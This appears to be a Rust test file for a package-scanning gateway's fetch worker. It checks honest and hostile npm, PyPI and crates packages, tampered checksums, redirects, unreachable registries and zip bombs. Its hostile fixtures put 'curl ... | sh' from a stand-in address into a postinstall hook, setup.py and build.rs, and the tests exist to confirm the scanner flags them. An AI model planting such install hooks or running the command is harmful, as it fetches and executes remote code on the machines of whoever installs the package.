//! `fetch-worker` as the gateway starts it, against registries on loopback: what comes of honest packages, of hostile ones and of
//! registries that misbehave.

use std::io::Write;
use std::process::{Command, Stdio};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use defenseclaw_model::decision::Severity;
use defenseclaw_model::package::{FETCH_VERB, FetchOutcome, FetchTask, PackageRelease, PackageState};
use defenseclaw_model::scan::ScanReport;
use sha2::{Digest, Sha256, Sha512};

use crate::registry::{Reply, Server};

/// No package of these tests takes longer on a busy machine.
const PATIENCE_MS: u64 = 120_000;

const MANIFEST: &str = r#"{"name":"pad","version":"1.0.0","scripts":{"test":"node test.js"}}"#;
const HOSTILE: &str =
    r#"{"name":"pad","version":"1.0.0","scripts":{"postinstall":"curl -s http://203.0.113.9/x | sh"}}"#;
const SETUP: &str = "from setuptools import setup\nsetup(name='pad')\n";
const HOSTILE_SETUP: &str = "import os\nfrom setuptools import setup\nos.system('curl -s http://203.0.113.9/x | sh')\nsetup(name='pad')\n";
const BUILD: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
const HOSTILE_BUILD: &str = "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://203.0.113.9/x | sh\").status().unwrap();\n}\n";

fn tarball(files: &[(&str, &[u8])]) -> Vec<u8> {
    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut archive = tar::Builder::new(gzip);
    for (path, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        archive.append_data(&mut header, path, *content).unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap()
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

fn serve_npm(server: &Server, body: &[u8], announced: &[u8]) {
    let integrity = STANDARD.encode(Sha512::digest(announced));
    let tarball = format!("{}/pad/-/pad-1.0.0.tgz", server.base);
    let document =
        format!(r#"{{"version":"1.0.0","dist":{{"tarball":"{tarball}","integrity":"sha512-{integrity}"}}}}"#);
    server.found("/pad/latest", document);
    server.found("/pad/-/pad-1.0.0.tgz", body);
}

fn serve_pypi(server: &Server, body: &[u8]) {
    let list = format!(
        r#"{{"files":[{{"filename":"pad-1.0.tar.gz","url":"/f/pad-1.0.tar.gz","hashes":{{"sha256":"{}"}}}}]}}"#,
        sha256(body)
    );
    server.found("/pad/", list);
    server.found("/f/pad-1.0.tar.gz", body);
}

fn serve_crates(server: &Server, body: &[u8]) {
    server.found("/config.json", format!(r#"{{"dl":"{}/dl"}}"#, server.base));
    let line = format!(r#"{{"name":"pads","vers":"1.0.0","cksum":"{}"}}"#, sha256(body));
    server.found("/pa/ds/pads", line);
    server.found("/dl/pads/1.0.0/download", body);
}

fn fetched_within(server: &Server, package: &str, known: &[String], timeout_ms: u64) -> FetchOutcome {
    let task = FetchTask {
        package: package.to_owned(),
        registry: Some(server.base.clone()),
        timeout_ms,
        known: known.to_vec(),
    };
    let mut child = Command::new(env!("CARGO_BIN_EXE_defenseclaw-cli"))
        .arg(FETCH_VERB)
        .env_clear()
        .current_dir("/")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let text = serde_json::to_vec(&task).unwrap();
    child.stdin.take().unwrap().write_all(&text).unwrap();
    let output = child.wait_with_output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    serde_json::from_slice(&output.stdout).unwrap()
}

fn fetched(server: &Server, package: &str) -> FetchOutcome {
    fetched_within(server, package, &[], PATIENCE_MS)
}

fn scanned(outcome: FetchOutcome) -> (PackageRelease, ScanReport) {
    match outcome {
        FetchOutcome::Scanned { release, report } => (release, report),
        other => panic!("it was not scanned: {other:?}"),
    }
}

fn failed(outcome: FetchOutcome) -> (PackageState, String) {
    match outcome {
        FetchOutcome::Failed { why, reason, .. } => (why, reason),
        other => panic!("it did not fail: {other:?}"),
    }
}

#[test]
fn a_package_of_each_registry_and_its_hostile_twin() {
    type Serve = fn(&Server, &str);
    let npm: Serve = |server, text| {
        let body = tarball(&[("package/package.json", text.as_bytes())]);
        serve_npm(server, &body, &body);
    };
    let pypi: Serve = |server, text| serve_pypi(server, &tarball(&[("pad-1.0/setup.py", text.as_bytes())]));
    let crates: Serve = |server, text| {
        let manifest: &[u8] = b"[package]\nname = \"pads\"\n";
        let files = [
            ("pads-1.0.0/Cargo.toml", manifest),
            ("pads-1.0.0/build.rs", text.as_bytes()),
        ];
        serve_crates(server, &tarball(&files));
    };
    for (package, serve, honest, hostile, version) in [
        ("npm:pad", npm, MANIFEST, HOSTILE, "1.0.0"),
        ("pypi:pad", pypi, SETUP, HOSTILE_SETUP, "1.0"),
        ("crates:pads", crates, BUILD, HOSTILE_BUILD, "1.0.0"),
    ] {
        let server = Server::start();
        serve(&server, honest);
        let (release, report) = scanned(fetched(&server, package));
        assert_eq!(release.version, version);
        assert!(release.integrity.starts_with("sha"), "{release:?}");
        assert!(
            report.verdict.severity < Severity::High,
            "{package}: {:?}",
            report.findings
        );
        serve(&server, hostile);
        let (other, report) = scanned(fetched(&server, package));
        assert!(
            report.verdict.severity >= Severity::High,
            "{package}: {:?}",
            report.findings
        );
        assert_ne!(
            other.integrity, release.integrity,
            "another file has another checksum"
        );
    }
}

#[test]
fn what_is_known_is_not_fetched_again_and_what_changed_is() {
    let server = Server::start();
    let body = tarball(&[("package/package.json", MANIFEST.as_bytes())]);
    serve_npm(&server, &body, &body);
    let (release, _) = scanned(fetched(&server, "npm:pad"));
    let files = |server: &Server| server.heads().iter().filter(|head| head.contains(".tgz")).count();
    assert_eq!(files(&server), 1);
    let known = [release.integrity.clone()];
    let again = fetched_within(&server, "npm:pad", &known, PATIENCE_MS);
    assert_eq!(
        again,
        FetchOutcome::Known {
            release: release.clone()
        }
    );
    assert_eq!(files(&server), 1, "only asked about");
    // The same name and version, another file.
    let body = tarball(&[("package/package.json", HOSTILE.as_bytes())]);
    serve_npm(&server, &body, &body);
    let (other, report) = scanned(fetched_within(&server, "npm:pad", &known, PATIENCE_MS));
    assert_eq!(other.version, release.version);
    assert_ne!(other.integrity, release.integrity);
    assert!(report.verdict.severity >= Severity::High);
}

#[test]
fn registries_that_misbehave_are_told_apart() {
    let server = Server::start();
    assert_eq!(failed(fetched(&server, "npm:gone")).0, PackageState::Absent);

    let body = tarball(&[("package/package.json", MANIFEST.as_bytes())]);
    serve_npm(&server, &body, b"something else");
    let (why, reason) = failed(fetched(&server, "npm:pad"));
    assert_eq!(why, PackageState::Altered);
    assert!(reason.contains("Do not install it"), "{reason}");

    let other = Server::start();
    serve_npm(&other, &body, &body);
    server.serve("/pad/latest", Reply::Moved(format!("{}/pad/latest", other.base)));
    let (why, reason) = failed(fetched(&server, "npm:pad"));
    assert_eq!(why, PackageState::Elsewhere);
    assert!(
        reason.contains(&other.base) && other.heads().is_empty(),
        "{reason}"
    );

    server.serve("/pad/latest", Reply::Silent);
    // Two seconds of that are kept for a scan.
    let silent = fetched_within(&server, "npm:pad", &[], 2_500);
    assert_eq!(failed(silent).0, PackageState::Unreachable);

    let unreachable = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let mut gone = Server::start();
    gone.base = format!("http://{}", unreachable.local_addr().unwrap());
    drop(unreachable);
    assert_eq!(failed(fetched(&gone, "npm:pad")).0, PackageState::Unreachable);
}

#[test]
fn a_huge_package_is_not_taken_and_a_bomb_does_no_harm() {
    let server = Server::start();
    let huge = vec![0_u8; (64 << 20) + 1];
    serve_npm(&server, &huge, &huge);
    let (why, reason) = failed(fetched(&server, "npm:pad"));
    assert_eq!(why, PackageState::TooLarge, "{reason}");
    // 64 MiB of zeros in some kilobytes; the twin has as many bytes that say something.
    let zeros = vec![0_u8; 64 << 20];
    let bomb = tarball(&[
        ("package/package.json", MANIFEST.as_bytes()),
        ("package/x", &zeros),
    ]);
    serve_npm(&server, &bomb, &bomb);
    let (_, report) = scanned(fetched(&server, "npm:pad"));
    let of_archive = |report: &ScanReport| report.findings.iter().any(|one| one.rule.starts_with("archive."));
    assert!(
        of_archive(&report),
        "what was not looked at is said: {:?}",
        report.findings
    );
    let small = vec![b'x'; 1 << 10];
    let plain = tarball(&[
        ("package/package.json", MANIFEST.as_bytes()),
        ("package/x", &small),
    ]);
    serve_npm(&server, &plain, &plain);
    let (_, report) = scanned(fetched(&server, "npm:pad"));
    assert!(!of_archive(&report), "{:?}", report.findings);
}

#[test]
fn what_is_no_task_gets_no_outcome() {
    for text in [
        "",
        "{}",
        "[1]",
        r#"{"package":"npm:pad","timeout_ms":1,"more":1}"#,
    ] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_defenseclaw-cli"))
            .arg(FETCH_VERB)
            .env_clear()
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
        let output = child.wait_with_output().unwrap();
        assert_eq!(
            (output.status.code(), output.stdout.len()),
            (Some(2), 0),
            "{text}"
        );
        assert!(
            String::from_utf8_lossy(&output.stderr).contains("not understood"),
            "{text}"
        );
    }
}
